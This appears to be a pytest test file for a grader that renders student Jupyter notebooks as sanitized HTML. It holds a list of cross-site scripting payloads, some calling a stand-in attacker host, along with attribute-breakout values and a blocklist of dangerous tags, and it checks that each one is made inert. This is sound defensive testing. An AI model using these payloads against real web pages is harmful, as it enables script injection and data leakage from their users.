"""Rendering a student's notebook: their own outputs survive, nothing active does."""

from __future__ import annotations

import base64
import io
import re
import zipfile

import nbformat
import pytest

from grader.notebooks.reading import NotebookUnreadable, notebook_from_path
from grader.notebooks.render import RENDER_CSP, RenderError, render_notebook, sanitize_html

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><circle r="5"/></svg>'


def nb_bytes(*cells: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nbformat.v4.new_notebook(cells=list(cells))).encode()


def html_output(markup: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("display_data", data={"text/html": markup, "text/plain": "<object>"})


def render(*cells: nbformat.NotebookNode) -> str:
    return render_notebook(nb_bytes(*cells), title="cw1 / 01234567").decode()


def body(page: str) -> str:
    return page[page.index("<body") :]


def assert_inert(markup: str) -> None:
    lowered = markup.lower()
    for needle in (
        "<script",
        "<svg",
        "<base",
        "<meta",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<link",
        "<form",
        "javascript:",
        "url(",
        "http://evil",
        "srcdoc",
        "xlink",
    ):
        assert needle not in lowered, f"{needle!r} survived: {markup[:2000]}"
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", lowered), markup[:2000]


def test_the_students_own_outputs_are_kept():
    page = render(
        nbformat.v4.new_markdown_cell("## My discussion\nThe loss **falls** after epoch 3."),
        nbformat.v4.new_code_cell(
            "print('epoch 1')\nplot()",
            execution_count=7,
            outputs=[
                nbformat.v4.new_output("stream", name="stdout", text="epoch 1: loss 0.52 <lr>\n"),
                nbformat.v4.new_output(
                    "display_data",
                    data={"image/png": PNG, "text/plain": "<Figure>"},
                    metadata={"image/png": {"width": 320}},
                ),
                nbformat.v4.new_output("execute_result", data={"text/plain": "0.97"}, execution_count=7),
                html_output('<table class="dataframe"><tr><th>acc</th><td style="color: red">0.97</td></tr></table>'),
                nbformat.v4.new_output("error", ename="ValueError", evalue="shapes", traceback=["ValueError: shapes"]),
            ],
        ),
    )
    b = body(page)
    assert "My discussion" in b and "<strong>falls</strong>" in b
    assert "epoch 1: loss 0.52 &lt;lr&gt;" in b  # text is text
    assert f'src="data:image/png;base64,{PNG}"' in b and 'width="320"' in b
    assert "In&nbsp;[7]:" in b and "Out[7]:" in b and "0.97" in b
    assert '<td style="color:red">0.97</td>' in b
    assert "ValueError: shapes" in b
    assert_inert(b)


def test_the_page_carries_its_csp_and_an_escaped_title():
    page = render_notebook(nb_bytes(nbformat.v4.new_code_cell("1")), title="</title><script>x</script>").decode()
    assert f'<meta http-equiv="Content-Security-Policy" content="{RENDER_CSP}">' in page
    assert RENDER_CSP == "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    assert "<title>&lt;/title&gt;&lt;script&gt;x&lt;/script&gt;</title>" in page
    assert page.count("<script") == 0


HOSTILE = {
    "script": "<script>window.pwned = 1</script><p>after</p>",
    "handler": '<img src="x" onerror="alert(1)"><div onmouseover="alert(2)" onclick=alert(3)>hover</div>',
    "svg script": SVG_SCRIPT,
    "svg use": '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "base": '<base href="http://evil.example/"><a href="page">rel</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
    "css url in style": '<div style="background-image: url(http://evil.example/leak?c=1)">x</div>',
    "css url escaped": '<div style="background: u\\72l(http://evil.example/)">x</div>',
    "css style block": "<style>@import 'http://evil.example/a.css'; body{background:url(http://evil/)}</style>",
    "css in property value": "<p style=\"color: red; background: url('http://evil/')\">x</p>",
    "javascript link": '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a>',
    "data html link": '<a href="data:text/html,<script>alert(1)</script>">c</a>',
    "iframe": '<iframe src="http://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x">',
    "form": '<form action="http://evil.example/"><input name=a><button formaction="http://evil/">go</button></form>',
    "link": '<link rel="stylesheet" href="http://evil.example/s.css">',
    "remote image": '<img src="http://evil.example/pixel.png"><img srcset="http://evil.example/a.png 1x">',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--<img src=x onerror=alert(1)>-->",
    "mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_html_output_is_made_inert(name: str):
    b = body(render(nbformat.v4.new_code_cell("x", outputs=[html_output(HOSTILE[name])])))
    assert_inert(b)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_markdown_is_made_inert(name: str):
    assert_inert(body(render(nbformat.v4.new_markdown_cell(f"# Answer\n\n{HOSTILE[name]}\n\nmore"))))


def test_svg_output_becomes_an_image_and_never_inline_markup():
    b = body(
        render(
            nbformat.v4.new_code_cell(
                "x", outputs=[nbformat.v4.new_output("display_data", data={"image/svg+xml": SVG_SCRIPT})]
            )
        )
    )
    src = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', b)
    assert src and base64.b64decode(src.group(1)).decode() == SVG_SCRIPT  # shown as an <img>: scripts never run
    assert_inert(b)


def test_script_and_widget_outputs_are_dropped():
    b = body(
        render(
            nbformat.v4.new_code_cell(
                "x",
                outputs=[
                    nbformat.v4.new_output("display_data", data={"application/javascript": "window.pwned = 1"}),
                    nbformat.v4.new_output(
                        "display_data",
                        data={
                            "application/vnd.jupyter.widget-view+json": {
                                "model_id": "abc",
                                "version_major": 2,
                                "version_minor": 0,
                            }
                        },
                    ),
                ],
            )
        )
    )
    assert "pwned" not in b and "widget" not in b and "abc" not in b


def test_an_image_that_is_not_base64_cannot_break_out_of_its_attribute():
    b = body(
        render(
            nbformat.v4.new_code_cell(
                "x",
                outputs=[
                    nbformat.v4.new_output(
                        "display_data", data={"image/png": 'AAAA" onerror="alert(1)', "text/plain": "fig"}
                    ),
                    nbformat.v4.new_output(
                        "display_data",
                        data={"image/png": PNG},
                        metadata={"image/png": {"width": '1" onload="alert(2)'}},
                    ),
                ],
            )
        )
    )
    assert "alert" not in b and f"base64,{PNG}" in b and "<pre>fig</pre>" in b


def test_markdown_attachments_are_shown_as_data_images():
    cell = nbformat.v4.new_markdown_cell("![grid](attachment:grid.png)", attachments={"grid.png": {"image/png": PNG}})
    b = body(render(cell))
    assert f'src="data:image/png;base64,{PNG}"' in b


def test_links_keep_safe_targets_only():
    b = sanitize_html(
        '<a href="https://pytorch.org/docs">docs</a><a href="#part-2">p2</a>'
        '<a href="mailto:ta@example.ac.uk">m</a><a href="/api/v1/courseworks">rel</a>'
    )
    assert 'href="https://pytorch.org/docs"' in b and 'href="#part-2"' in b and 'href="mailto:ta@example.ac.uk"' in b
    assert "/api/v1" not in b


@pytest.mark.parametrize("data", [b"", b"not json", b'{"cells": 3, "nbformat": 4}', b"\xff\xfe", b"[]"])
def test_unreadable_notebooks_raise_render_error(data: bytes):
    with pytest.raises(RenderError):
        render_notebook(data, title="x")


def test_a_notebook_with_odd_cells_still_renders_what_it_can():
    raw = (
        b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [7, {"cell_type": "code", '
        b'"source": ["a = ", "1"], "outputs": [{"output_type": "bogus"}, 3, {"output_type": "stream", '
        b'"text": "hi"}], "execution_count": "x"}, {"cell_type": "raw", "source": "<script>raw</script>"}]}'
    )
    b = body(render_notebook(raw, title="x").decode())
    assert "hi" in b and "a" in b and "<script" not in b


def test_the_notebook_is_read_from_a_zip_or_a_plain_file(tmp_path):
    nb = nb_bytes(nbformat.v4.new_code_cell("x = 1"))
    plain = tmp_path / "cw1.ipynb"
    plain.write_bytes(nb)
    assert notebook_from_path(plain, "cw1.ipynb", 1 << 20) == nb
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("VAE_model.pth", b"weights")
        z.writestr("folder/cw2.ipynb", nb)
        z.writestr("__MACOSX/folder/._cw2.ipynb", b"junk")
    zipped = tmp_path / "sub.zip"
    zipped.write_bytes(buf.getvalue())
    assert notebook_from_path(zipped, "cw2.ipynb", 1 << 20) == nb
    assert notebook_from_path(zipped, "renamed.ipynb", 1 << 20) == nb  # its only notebook
    with pytest.raises(NotebookUnreadable, match="more than 10 bytes"):
        notebook_from_path(zipped, "cw2.ipynb", 10)
    with pytest.raises(NotebookUnreadable, match="larger than 10 bytes"):
        notebook_from_path(plain, "cw1.ipynb", 10)
    broken = tmp_path / "broken.zip"
    broken.write_bytes(b"PK\x03\x04 not a zip")
    with pytest.raises(NotebookUnreadable):
        notebook_from_path(broken, "cw2.ipynb", 1 << 20)
